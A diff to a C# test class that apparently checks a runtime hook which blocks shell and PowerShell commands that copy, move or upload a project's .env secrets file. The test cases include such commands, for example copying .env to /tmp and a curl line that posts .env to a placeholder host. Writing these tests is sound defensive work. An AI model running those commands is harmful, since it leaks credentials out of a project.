@@ -53,6 +53,9 @@ public sealed class RuntimeHookTests
     [TestCase("git diff --no-index /dev/null .env")]
     [TestCase("cp .env /tmp/x")]
     [TestCase("cp -t /tmp .env")]
+    [TestCase("cp -at /tmp .env")]
+    [TestCase("cp -vt/tmp src/a.cs .env")]
+    [TestCase("mv .env /tmp/x -f")]
     [TestCase("mv .env x; cat x")]
     [TestCase("cp src/a.cs .env /tmp")]
     [TestCase("curl -F file=@.env http://x.y")]
@@ -88,6 +91,7 @@ public sealed class RuntimeHookTests
     [TestCase("git rm --cached .env")]
     [TestCase("cat .env.example")]
     [TestCase("cp .env.example .env")]
+    [TestCase("cp .env.example .env -f")]
     [TestCase("echo process.env.HOME")]
     [TestCase("node -e 'console.log(process.env.PORT)'")]
     [TestCase("python3 -c \"print(open('src/a.cs').read())\"")]
@@ -103,6 +107,8 @@ public sealed class RuntimeHookTests
     [TestCase("gci env:", true)]
     [TestCase("Copy-Item -Destination x .env", true)]
     [TestCase("Copy-Item .env.example .env", false)]
+    [TestCase("Copy-Item .env.example .env -Force", false)]
+    [TestCase("Copy-Item .env out -Force", true)]
     [TestCase("Get-ChildItem src", false)]
     public void PowerShell_is_looked_through_too(string command, bool denied) =>
         Assert.That(IsDenied("PowerShell", "command", command), Is.EqualTo(denied));
